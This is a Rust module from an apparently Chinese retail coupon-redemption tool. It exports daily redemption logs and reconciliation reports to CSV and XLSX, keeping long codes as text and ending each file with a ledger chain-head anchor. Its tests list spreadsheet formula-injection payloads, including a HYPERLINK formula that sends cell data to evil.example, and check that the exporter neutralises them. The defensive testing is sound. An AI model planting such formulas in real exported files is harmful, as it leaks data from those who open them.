//! Export of a day's (filtered) log and of a reconciliation report, as CSV and XLSX, for the
//! accountant (product.md "The manager side"). Codes and ids stay text — Excel must never
//! show 914095353294404024 as 9.14E+17 — amounts are in 元 with two decimals, and a totals
//! section closes the log, and the ledger's chain head at export time closes the file (kept
//! outside the ledger, it lets `verify-log --anchor` show later that nothing up to it was
//! cut or rewritten). Nothing secret is in a ledger row, so nothing secret can be here.

use crate::channel::ChannelKind;
use crate::clock::UnixMs;
use crate::ledger::{Attempt, ChainAnchor, ChannelTotals, DayLog, Ledger, LedgerError};
use crate::money::Fen;
use crate::reconcile::{LineState, Report, Verdict};
use crate::words::{self, Lang};
use rust_xlsxwriter::{Format, Workbook, Worksheet, XlsxError};
use serde::{Deserialize, Serialize};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ExportFormat {
    Csv,
    Xlsx,
}

impl std::str::FromStr for ExportFormat {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.trim().to_ascii_lowercase().as_str() {
            "csv" => Ok(ExportFormat::Csv),
            "xlsx" => Ok(ExportFormat::Xlsx),
            other => Err(format!("{other:?} is not csv or xlsx")),
        }
    }
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error(transparent)]
    Ledger(#[from] LedgerError),
    #[error("the spreadsheet could not be written: {0}")]
    Xlsx(#[from] XlsxError),
    #[error("the CSV could not be written: {0}")]
    Csv(#[from] csv::Error),
}

impl ExportError {
    pub fn code(&self) -> &'static str {
        match self {
            ExportError::Ledger(e) => e.code(),
            ExportError::Xlsx(_) | ExportError::Csv(_) => "export_failed",
        }
    }
}

/// A cell: text stays text, money is 元 with two decimals, counts are numbers.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Money(Fen),
    Count(i64),
}

/// A table: a title line, a header and rows; the same for both formats.
pub struct Table {
    pub title: String,
    pub header: Vec<&'static str>,
    pub rows: Vec<Vec<Cell>>,
}

fn text(s: impl Into<String>) -> Cell {
    Cell::Text(s.into())
}

/// What an export shows for an amount the channel never reported.
const UNREPORTED: &str = "—";

/// A sum over rows of which `unreported` had no amount: "—" when none had one.
fn reported_sum(sum: Fen, unreported: u64, rows: u64) -> Cell {
    if rows > 0 && unreported >= rows {
        text(UNREPORTED)
    } else {
        Cell::Money(sum)
    }
}

/// A channel's name and its stable id ("all" for the grand total).
fn channel_cells(lang: Lang, c: Option<ChannelKind>) -> [Cell; 2] {
    match c {
        Some(c) => [text(words::channel(lang, c)), text(c.as_str())],
        None => [text(lang.pick("全部", "All")), text("all")],
    }
}

/// Wall time in the business zone, `yyyy-MM-dd HH:mm:ss`.
fn time_text(ms: UnixMs, offset_minutes: i32) -> String {
    crate::channel::BusinessZone::from_minutes(offset_minutes)
        .unwrap_or_default()
        .dashed(ms)
}

/// Column headers in the file's language; the "(代码)" / "(id)" columns are the stable ids
/// for machines, beside the words for people.
fn header(lang: Lang, pairs: &[(&'static str, &'static str)]) -> Vec<&'static str> {
    pairs.iter().map(|(zh, en)| lang.pick(zh, en)).collect()
}

fn log_tables(log: &DayLog, channel_ids: &[String], offset_minutes: i32, lang: Lang) -> Vec<Table> {
    let rows = log
        .attempts
        .iter()
        .zip(channel_ids)
        .map(|(a, ids): (&Attempt, &String)| {
            let [channel, channel_id] = channel_cells(lang, Some(a.channel));
            vec![
                text(time_text(a.created_ms, offset_minutes)),
                channel,
                channel_id,
                text(a.platform.map(|p| words::platform(lang, p)).unwrap_or("")),
                text(a.platform.map(|p| p.as_str()).unwrap_or("")),
                text(a.code.clone()),
                Cell::Count(i64::from(a.count)),
                text(a.cashier.clone()),
                text(words::attempt_state(lang, a.state)),
                text(a.state.as_str()),
                // An amount the channel never reported is "—", never 0.00.
                a.settled_face_value
                    .map(Cell::Money)
                    .unwrap_or_else(|| text(UNREPORTED)),
                a.settled
                    .map(Cell::Money)
                    .unwrap_or_else(|| text(UNREPORTED)),
                text(a.id.as_str()),
                text(ids.clone()),
            ]
        })
        .collect();
    let totals = log
        .totals
        .iter()
        .map(|t: &ChannelTotals| {
            let [channel, channel_id] = channel_cells(lang, t.channel);
            vec![
                channel,
                channel_id,
                Cell::Count(t.succeeded as i64),
                Cell::Count(t.units),
                reported_sum(t.face_value, t.face_value_unreported, t.succeeded),
                reported_sum(t.settled, t.settled_unreported, t.succeeded),
                Cell::Count(t.face_value_unreported as i64),
                Cell::Count(t.settled_unreported as i64),
            ]
        })
        .collect();
    vec![
        Table {
            title: format!("{} {}", lang.pick("核销流水", "Redemption log"), log.day),
            header: header(
                lang,
                &[
                    ("时间", "Time"),
                    ("渠道", "Channel"),
                    ("渠道(代码)", "Channel (id)"),
                    ("平台", "Platform"),
                    ("平台(代码)", "Platform (id)"),
                    ("券码", "Code"),
                    ("数量", "Count"),
                    ("收银员", "Cashier"),
                    ("状态", "State"),
                    ("状态(代码)", "State (id)"),
                    ("面值(元)", "Face value (yuan)"),
                    ("结算(元)", "Settled (yuan)"),
                    ("我方流水号", "Our id"),
                    ("渠道单号", "Channel's ids"),
                ],
            ),
            rows,
        },
        Table {
            title: lang
                .pick("合计（成功且未撤销）", "Totals (succeeded, not undone)")
                .into(),
            header: header(
                lang,
                &[
                    ("渠道", "Channel"),
                    ("渠道(代码)", "Channel (id)"),
                    ("笔数", "Redemptions"),
                    ("张数", "Units"),
                    ("面值(元)", "Face value (yuan)"),
                    ("结算(元)", "Settled (yuan)"),
                    ("未报面值笔数", "Rows without face value"),
                    ("未报结算笔数", "Rows without settled"),
                ],
            ),
            rows: totals,
        },
    ]
}

/// The closing table: the chain head this file was made at, and how to check it.
fn head_table(head: Option<&ChainAnchor>, lang: Lang) -> Table {
    let (shown, check) = match head {
        Some(h) => (
            h.to_string(),
            format!(
                "redeemdesk-cli verify-log --anchor {}:{}",
                h.id,
                &h.hash[..h.hash.len().min(16)]
            ),
        ),
        None => (
            lang.pick("（空账本）", "(empty ledger)").to_owned(),
            String::new(),
        ),
    };
    Table {
        title: lang.pick("链头", "Chain head").into(),
        header: header(lang, &[("链头", "Chain head"), ("核对命令", "Check")]),
        rows: vec![vec![text(shown), text(check)]],
    }
}

/// One difference in words: the field's name, then ours ≠ the channel's, states translated.
fn difference_text(d: &crate::reconcile::Difference, lang: Lang) -> String {
    let field = match d.field.as_str() {
        "state" => lang.pick("状态", "state"),
        "face_value" => lang.pick("面值", "face value"),
        other => other,
    };
    let value = |v: &str, ours: bool| -> String {
        if d.field != "state" {
            return v.to_owned();
        }
        let word = if ours {
            v.parse::<crate::ledger::AttemptState>()
                .ok()
                .map(|s| words::attempt_state(lang, s))
        } else {
            match v {
                "redeemed" => Some(words::line_state(lang, LineState::Redeemed)),
                "cancelled" => Some(words::line_state(lang, LineState::Cancelled)),
                _ => None,
            }
        };
        word.map(str::to_owned).unwrap_or_else(|| v.to_owned())
    };
    match lang {
        Lang::Zh => format!(
            "{field}：我方 {} ≠ 渠道 {}",
            value(&d.ours, true),
            value(&d.theirs, false)
        ),
        Lang::En => format!(
            "{field}: ours {} ≠ the channel's {}",
            value(&d.ours, true),
            value(&d.theirs, false)
        ),
    }
}

fn report_tables(r: &Report, lang: Lang) -> Vec<Table> {
    let rows = r
        .lines
        .iter()
        .map(|l| {
            vec![
                text(words::verdict(lang, l.verdict)),
                text(verdict_id(l.verdict)),
                text(l.code.clone()),
                text(
                    l.our_id
                        .as_ref()
                        .map(|i| i.as_str().to_owned())
                        .unwrap_or_default(),
                ),
                text(
                    l.our_state
                        .map(|s| words::attempt_state(lang, s))
                        .unwrap_or(""),
                ),
                l.our_face_value
                    .map(Cell::Money)
                    .unwrap_or_else(|| text("")),
                text(l.channel_id.clone().unwrap_or_default()),
                text(
                    l.channel_state
                        .map(|s| words::line_state(lang, s))
                        .unwrap_or(""),
                ),
                l.channel_face_value
                    .map(Cell::Money)
                    .unwrap_or_else(|| text("")),
                text(
                    l.differences
                        .iter()
                        .map(|d| difference_text(d, lang))
                        .chain(l.problem.iter().map(|p| {
                            let column = p.column.as_deref().unwrap_or("");
                            let words = match p.kind {
                                crate::statement::ProblemKind::Other => p.message.clone(),
                                k => k.words(lang, column),
                            };
                            match &p.raw {
                                Some(raw) => format!("{words} — {raw}"),
                                None => words,
                            }
                        }))
                        .collect::<Vec<_>>()
                        .join(lang.pick("；", "; ")),
                ),
            ]
        })
        .collect();
    let counts = r
        .counts
        .iter()
        .map(|(v, n)| {
            vec![
                text(words::verdict(lang, *v)),
                text(verdict_id(*v)),
                Cell::Count(*n as i64),
            ]
        })
        .collect();
    vec![
        Table {
            title: format!(
                "{} {} {}",
                lang.pick("对账", "Reconciliation"),
                r.day,
                words::channel(lang, r.channel)
            ),
            header: header(
                lang,
                &[
                    ("结果", "Verdict"),
                    ("结果(代码)", "Verdict (id)"),
                    ("券码", "Code"),
                    ("我方流水号", "Our id"),
                    ("我方状态", "Our state"),
                    ("我方面值(元)", "Our face value (yuan)"),
                    ("渠道单号", "Channel's id"),
                    ("渠道状态", "Channel's state"),
                    ("渠道面值(元)", "Channel's face value (yuan)"),
                    ("差异", "Differences"),
                ],
            ),
            rows,
        },
        Table {
            title: lang.pick("合计", "Totals").into(),
            header: header(
                lang,
                &[
                    ("结果", "Verdict"),
                    ("结果(代码)", "Verdict (id)"),
                    ("条数", "Lines"),
                ],
            ),
            rows: counts,
        },
    ]
}

/// A verdict's stable id, as the report's JSON names it.
fn verdict_id(v: Verdict) -> &'static str {
    match v {
        Verdict::Matched => "matched",
        Verdict::OnlyHere => "only_here",
        Verdict::OnlyAtChannel => "only_at_channel",
        Verdict::AmountDiffers => "amount_differs",
        Verdict::StateDiffers => "state_differs",
        Verdict::Unreadable => "unreadable",
    }
}

/// The file's name in the export's language: `核销流水-2026-12-01.csv`,
/// `reconciliation-Shoubei-2026-12-01.xlsx`.
pub fn file_name(
    lang: Lang,
    what: ExportKind,
    day: crate::business_day::BusinessDay,
    format: ExportFormat,
) -> String {
    let ext = match format {
        ExportFormat::Csv => "csv",
        ExportFormat::Xlsx => "xlsx",
    };
    match what {
        ExportKind::DayLog => format!("{}-{day}.{ext}", lang.pick("核销流水", "redemption-log")),
        ExportKind::Reconciliation(c) => format!(
            "{}-{}-{day}.{ext}",
            lang.pick("对账", "reconciliation"),
            words::channel(lang, c).replace(' ', "-")
        ),
    }
}

/// Which file `file_name` names.
#[derive(Debug, Clone, Copy)]
pub enum ExportKind {
    DayLog,
    Reconciliation(ChannelKind),
}

/// A text cell as CSV writes it. Digits only: `="…"`, which every spreadsheet shows as the
/// text itself (never 9.14E+17). Text that a spreadsheet would run as a formula (it starts
/// with `=`, `+`, `-`, `@`, tab or CR; it comes from cashiers, channels and statements) gets a
/// leading `'` (OWASP "CSV injection"), so it is shown, never evaluated. Amounts are not text
/// cells: a negative amount stays a number.
fn csv_text(s: &str) -> String {
    if !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit()) {
        format!("=\"{s}\"")
    } else if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_owned()
    }
}

fn csv_bytes(tables: &[Table]) -> Result<Vec<u8>, ExportError> {
    // A BOM first, so Excel opens the Chinese text as UTF-8.
    let mut w = csv::WriterBuilder::new()
        .flexible(true)
        .from_writer(b"\xef\xbb\xbf".to_vec());
    for (i, t) in tables.iter().enumerate() {
        if i > 0 {
            w.write_record([""])?;
        }
        w.write_record([t.title.as_str()])?;
        w.write_record(&t.header)?;
        for row in &t.rows {
            let fields: Vec<String> = row
                .iter()
                .map(|c| match c {
                    Cell::Text(s) => csv_text(s),
                    Cell::Money(f) => f.to_yuan_string(),
                    Cell::Count(n) => n.to_string(),
                })
                .collect();
            w.write_record(&fields)?;
        }
    }
    w.into_inner()
        .map_err(|e| ExportError::Csv(csv::Error::from(e.into_error())))
}

fn sheet(ws: &mut Worksheet, tables: &[Table]) -> Result<(), XlsxError> {
    let money = Format::new().set_num_format("0.00");
    let bold = Format::new().set_bold();
    let mut row: u32 = 0;
    for t in tables {
        ws.write_string_with_format(row, 0, &t.title, &bold)?;
        row += 1;
        for (c, h) in t.header.iter().enumerate() {
            ws.write_string_with_format(row, c as u16, *h, &bold)?;
        }
        row += 1;
        for r in &t.rows {
            for (c, cell) in r.iter().enumerate() {
                let c = c as u16;
                match cell {
                    Cell::Text(s) => ws.write_string(row, c, s)?,
                    // Stored as the exact 元 value; the format shows two decimals.
                    Cell::Money(f) => {
                        ws.write_number_with_format(row, c, f.0 as f64 / 100.0, &money)?
                    }
                    Cell::Count(n) => ws.write_number(row, c, *n as f64)?,
                };
            }
            row += 1;
        }
        row += 1;
    }
    ws.set_column_width(0, 20)?;
    ws.set_column_width(3, 24)?;
    ws.set_column_width(9, 34)?;
    Ok(())
}

fn xlsx_bytes(tables: &[Table], sheet_name: &str) -> Result<Vec<u8>, ExportError> {
    let mut wb = Workbook::new();
    let ws = wb.add_worksheet();
    ws.set_name(sheet_name)?;
    sheet(ws, tables)?;
    Ok(wb.save_to_buffer()?)
}

/// Tables in either format with the till's conventions (a BOM, digits kept as text,
/// formula text neutralised, money in 元): HQ's reports use it too.
pub fn encode(
    tables: &[Table],
    format: ExportFormat,
    sheet_name: &str,
) -> Result<Vec<u8>, ExportError> {
    match format {
        ExportFormat::Csv => csv_bytes(tables),
        ExportFormat::Xlsx => xlsx_bytes(tables, sheet_name),
    }
}

/// The file for a day's log: every attempt with its channel ids, the totals, then the
/// chain head `head` (read by the caller, which also records it with the export's audit
/// entry).
pub fn export_day_log(
    ledger: &Ledger,
    log: &DayLog,
    head: Option<&ChainAnchor>,
    format: ExportFormat,
    lang: Lang,
) -> Result<Vec<u8>, ExportError> {
    let mut ids = Vec::with_capacity(log.attempts.len());
    for a in &log.attempts {
        // The ids a channel returned are on the events; only a settled attempt has them.
        let text = if a.state == crate::ledger::AttemptState::Pending {
            String::new()
        } else {
            let mut names: Vec<String> = ledger
                .attempt_events(&a.id)?
                .into_iter()
                .flat_map(|e| e.channel_ids.into_iter().map(|(k, v)| format!("{k}={v}")))
                .collect();
            names.dedup();
            names.join(" ")
        };
        ids.push(text);
    }
    let offset = ledger.business_day_rule().offset_minutes;
    let mut tables = log_tables(log, &ids, offset, lang);
    tables.push(head_table(head, lang));
    encode(&tables, format, lang.pick("流水", "Log"))
}

/// The file for a reconciliation report: every line with its evidence, the counts, then
/// the chain head `head`.
pub fn export_report(
    report: &Report,
    head: Option<&ChainAnchor>,
    format: ExportFormat,
    lang: Lang,
) -> Result<Vec<u8>, ExportError> {
    let mut tables = report_tables(report, lang);
    tables.push(head_table(head, lang));
    encode(&tables, format, lang.pick("对账", "Reconciliation"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::app_info::Mode;
    use crate::ledger::{Actor, AttemptState, DayFilter, NewAttempt, Transition};

    /// An attempt begun and answered a success 5 ms later by its cashier, with one channel id.
    fn succeeded(ledger: &Ledger, attempt: NewAttempt, (key, id): (&str, &str)) {
        let (at, cashier) = (attempt.created_ms, attempt.cashier.clone());
        let begun = ledger.begin_attempt(attempt).unwrap();
        ledger
            .record(
                &begun,
                Transition::new(AttemptState::Succeeded, at + 5, Actor::Cashier(cashier))
                    .channel_id(key, id),
            )
            .unwrap();
    }

    #[test]
    fn the_csv_keeps_long_codes_as_text_and_amounts_in_yuan_with_two_decimals() {
        let ledger = Ledger::open_in_memory(Mode::Sandbox).unwrap();
        let at = 1_795_000_000_000;
        succeeded(
            &ledger,
            NewAttempt {
                created_ms: at,
                channel: ChannelKind::Liantuofu,
                platform: None,
                code: "914095353294404024".into(),
                count: 2,
                cashier: "王芳".into(),
                face_value: Some(Fen(1000)),
                price: None,
                remaining_before: Some(10),
                prepare: Default::default(),
            },
            ("bizId", "390962138708451328"),
        );
        let day = ledger.business_day_rule().day_of(at);
        let log = ledger.day_log(day, &DayFilter::default()).unwrap();
        let head = ledger.chain_anchor().unwrap();
        let csv = String::from_utf8(
            export_day_log(&ledger, &log, head.as_ref(), ExportFormat::Csv, Lang::Zh).unwrap(),
        )
        .unwrap();
        assert!(csv.starts_with('\u{feff}'), "a BOM for Excel");
        let fields: Vec<String> = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(csv.as_bytes())
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        assert!(
            fields.iter().any(|f| f == "=\"914095353294404024\""),
            "the code is a text formula Excel shows as itself: {csv}"
        );
        assert!(
            csv.contains("bizId=390962138708451328"),
            "the channel's id is in the row: {csv}"
        );
        assert!(
            csv.contains(",20.00,"),
            "2 × ¥10.00 in 元 with two decimals: {csv}"
        );
        assert!(csv.contains("合计（成功且未撤销）"), "a totals section");
        assert!(!csv.contains("9.14E"), "never scientific notation");
        let head = head.expect("two events were written");
        assert!(
            csv.contains(&head.to_string()) && csv.contains(&format!("--anchor {}:", head.id)),
            "the file ends with the chain head and how to check it: {csv}"
        );
    }

    const FORMULAS: [&str; 6] = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
        "+1+1",
        "@SUM(A1)",
        "-2+3",
        "\t=1",
        "\r=1",
    ];

    fn cells(csv: &[u8]) -> Vec<String> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(csv)
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect()
    }

    fn report_with(texts: &[&str]) -> Report {
        use crate::reconcile::{reconcile, ChannelLine, LineState, Source, StatementProblem};
        let theirs: Vec<ChannelLine> = texts
            .iter()
            .map(|t| ChannelLine {
                code: (*t).to_owned(),
                channel_id: Some((*t).to_owned()),
                face_value: Some(Fen(-1000)),
                state: LineState::Redeemed,
                at: None,
                statement_row: Some(2),
            })
            .collect();
        let unreadable: Vec<StatementProblem> = texts
            .iter()
            .map(|t| StatementProblem {
                row: Some(9),
                column: None,
                kind: crate::statement::ProblemKind::RowUnreadable,
                message: (*t).to_owned(),
                raw: Some((*t).to_owned()),
            })
            .collect();
        reconcile(
            "2026-11-22".parse().unwrap(),
            ChannelKind::Shoubei,
            Source::Statement {
                file: "s.csv".into(),
            },
            &[],
            &theirs,
            &unreadable,
        )
    }

    /// Issue 20 item 12: an amount the channel never reported is "—", not 0.00, in the rows
    /// and in a total that has none; a total that misses some rows says how many.
    #[test]
    fn an_amount_never_reported_is_a_dash_and_the_totals_count_the_rows_without_one() {
        let ledger = Ledger::open_in_memory(Mode::Sandbox).unwrap();
        let at = 1_795_000_000_000;
        let success = |code: &str, face: Option<i64>, settled: Option<i64>| {
            let id = ledger
                .begin_attempt(NewAttempt {
                    created_ms: at,
                    channel: ChannelKind::Zvcms,
                    platform: None,
                    code: code.into(),
                    count: 1,
                    cashier: "王芳".into(),
                    face_value: face.map(Fen),
                    price: None,
                    remaining_before: None,
                    prepare: Default::default(),
                })
                .unwrap();
            ledger
                .record(
                    &id,
                    Transition::new(
                        AttemptState::Succeeded,
                        at + 5,
                        Actor::Cashier("王芳".into()),
                    )
                    .amounts(crate::ledger::Amounts {
                        face_value: face.map(Fen),
                        settled: settled.map(Fen),
                    }),
                )
                .unwrap();
        };
        success("390962138708450001", None, None);
        success("390962138708450002", Some(1500), None);
        let day = ledger.business_day_rule().day_of(at);
        let log = ledger.day_log(day, &DayFilter::default()).unwrap();
        let t = &log.totals[0];
        assert_eq!(
            (t.succeeded, t.face_value_unreported, t.settled_unreported),
            (2, 1, 2)
        );
        let csv = String::from_utf8(
            export_day_log(&ledger, &log, None, ExportFormat::Csv, Lang::Zh).unwrap(),
        )
        .unwrap();
        let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(csv.trim_start_matches('\u{feff}').as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect();
        let first = rows
            .iter()
            .find(|r| r.iter().any(|f| f.contains("390962138708450001")))
            .unwrap();
        assert_eq!(
            &first[10..12],
            ["—", "—"],
            "no face value, no settled: {first:?}"
        );
        let total = rows
            .iter()
            .find(|r| r.get(1).map(String::as_str) == Some("zvcms"))
            .unwrap();
        assert_eq!(
            &total[2..8],
            ["2", "2", "15.00", "—", "1", "2"],
            "face value summed over the one that had it (1 without), settled reported by none: {total:?}"
        );
    }

    #[test]
    fn formula_text_from_outside_is_neutralised_in_the_csv_and_shown_unchanged_after_the_quote() {
        // A cashier's name, a statement's codes, channel ids and unreadable rows: all outside text.
        let ledger = Ledger::open_in_memory(Mode::Sandbox).unwrap();
        let at = 1_795_000_000_000;
        for (i, f) in FORMULAS.iter().enumerate() {
            ledger
                .begin_attempt(NewAttempt {
                    created_ms: at + i as i64,
                    channel: ChannelKind::Shoubei,
                    platform: None,
                    code: format!("67953392292{i}"),
                    count: 1,
                    cashier: (*f).to_owned(),
                    face_value: Some(Fen(1000)),
                    price: None,
                    remaining_before: None,
                    prepare: Default::default(),
                })
                .unwrap();
        }
        let day = ledger.business_day_rule().day_of(at);
        let log = ledger.day_log(day, &DayFilter::default()).unwrap();
        let log_cells =
            cells(&export_day_log(&ledger, &log, None, ExportFormat::Csv, Lang::Zh).unwrap());
        let report_cells = cells(
            &export_report(&report_with(&FORMULAS), None, ExportFormat::Csv, Lang::Zh).unwrap(),
        );
        for f in FORMULAS {
            let want = format!("'{f}");
            assert!(
                log_cells.contains(&want),
                "the cashier {f:?} is written as {want:?}: {log_cells:?}"
            );
            assert!(
                report_cells.iter().filter(|c| **c == want).count() >= 2,
                "the statement's code and channel id {f:?} are neutralised: {report_cells:?}"
            );
        }
        let dangerous = |c: &&String| {
            c.starts_with(['+', '-', '@', '\t', '\r'])
                || (c.starts_with('=') && !c.starts_with("=\""))
        };
        let left: Vec<_> = log_cells
            .iter()
            .chain(&report_cells)
            .filter(dangerous)
            .collect();
        assert_eq!(
            left,
            vec!["-10.00"; FORMULAS.len()],
            "only our own negative amounts may start with a sign; no other cell can run"
        );
        assert!(
            log_cells.contains(&"=\"679533922920\"".to_owned()),
            "a code of digits keeps its text formula"
        );
    }

    #[test]
    fn formula_text_is_a_plain_string_in_the_xlsx() {
        use calamine::{Data, Reader, Xlsx};
        let bytes =
            export_report(&report_with(&FORMULAS), None, ExportFormat::Xlsx, Lang::Zh).unwrap();
        let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes))
            .expect("the export is an xlsx");
        let formulas = book.worksheet_formula("对账").unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "no cell of the sheet is a formula"
        );
        let range = book.worksheet_range("对账").unwrap();
        for f in FORMULAS {
            assert!(
                // XML may hand a leading CR back as a line break; the text is what matters.
                range.used_cells().any(|(_, _, c)| matches!(c,
                    Data::String(s) if s.trim_start() == f.trim_start())),
                "{f:?} is a text cell holding its text"
            );
        }
    }

    /// A Chinese file has no English word of ours (the id columns and the check command are
    /// for machines); an English one has no Chinese of ours. The coupon codes, cashier names
    /// and channel ids are data, not ours.
    #[test]
    fn a_file_is_in_one_language_with_the_ids_in_columns_of_their_own() {
        let ledger = Ledger::open_in_memory(Mode::Sandbox).unwrap();
        let at = 1_795_000_000_000;
        succeeded(
            &ledger,
            NewAttempt {
                created_ms: at,
                channel: ChannelKind::Allinpay,
                platform: Some(crate::ledger::Platform::Tiktok),
                code: "914095353294404024".into(),
                count: 1,
                cashier: "Wang".into(),
                face_value: Some(Fen(1000)),
                price: None,
                remaining_before: None,
                prepare: Default::default(),
            },
            ("orderNo", "TK2026"),
        );
        let day = ledger.business_day_rule().day_of(at);
        let log = ledger.day_log(day, &DayFilter::default()).unwrap();
        let rows = |lang| -> Vec<Vec<String>> {
            let csv = export_day_log(&ledger, &log, None, ExportFormat::Csv, lang).unwrap();
            csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(&csv[3..])
                .records()
                .map(|r| r.unwrap().iter().map(str::to_owned).collect())
                .collect()
        };
        // Columns of ids (for machines) and data (codes, names, ids the channel gave).
        let not_ours = [2, 4, 5, 7, 9, 12, 13];
        let zh = rows(Lang::Zh);
        let header = zh
            .iter()
            .find(|r| r.first().map(String::as_str) == Some("时间"))
            .unwrap();
        let row = zh
            .iter()
            .find(|r| r.iter().any(|f| f.contains("914095353294404024")))
            .unwrap();
        assert_eq!(
            (
                &row[1][..],
                &row[2][..],
                &row[3][..],
                &row[8][..],
                &row[9][..]
            ),
            ("通联", "allinpay", "抖音", "成功", "succeeded"),
            "{header:?}"
        );
        // The stable ids, wherever a "(代码)" column holds one.
        let ids: Vec<&str> = ChannelKind::ALL
            .iter()
            .map(|c| c.as_str())
            .chain(["tiktok", "succeeded", "all"])
            .collect();
        for r in &zh {
            for (i, cell) in r.iter().enumerate() {
                let data = (r == row && not_ours.contains(&i)) || ids.contains(&cell.as_str());
                let command = cell.starts_with("redeemdesk-cli verify-log");
                assert!(
                    data || command || words::latin_words(cell).is_empty(),
                    "English in the Chinese file: {cell:?} in {r:?}"
                );
            }
        }
        let en = rows(Lang::En);
        let row = en
            .iter()
            .find(|r| r.iter().any(|f| f.contains("914095353294404024")))
            .unwrap();
        assert_eq!(
            (&row[1][..], &row[3][..], &row[8][..]),
            ("Allinpay", "Douyin", "succeeded")
        );
        for r in &en {
            for cell in r {
                assert!(
                    !cell.chars().any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c)),
                    "Chinese in the English file: {cell:?}"
                );
            }
        }
        let name = |lang, what| file_name(lang, what, day, ExportFormat::Csv);
        assert_eq!(
            name(Lang::Zh, ExportKind::DayLog),
            format!("核销流水-{day}.csv")
        );
        assert_eq!(
            name(Lang::Zh, ExportKind::Reconciliation(ChannelKind::Shoubei)),
            format!("对账-收呗-{day}.csv")
        );
        assert_eq!(
            name(Lang::En, ExportKind::Reconciliation(ChannelKind::Yhtd)),
            format!("reconciliation-Value-added-{day}.csv")
        );
    }

    /// The evidence of a reconciliation reads in the file's language: states are words.
    #[test]
    fn a_differences_cell_names_the_states_in_words() {
        let d = crate::reconcile::Difference {
            field: "state".into(),
            ours: "cancelled".into(),
            theirs: "redeemed".into(),
        };
        assert_eq!(
            difference_text(&d, Lang::Zh),
            "状态：我方 已撤销 ≠ 渠道 已核销"
        );
        assert_eq!(
            difference_text(&d, Lang::En),
            "state: ours undone ≠ the channel's redeemed"
        );
    }
}
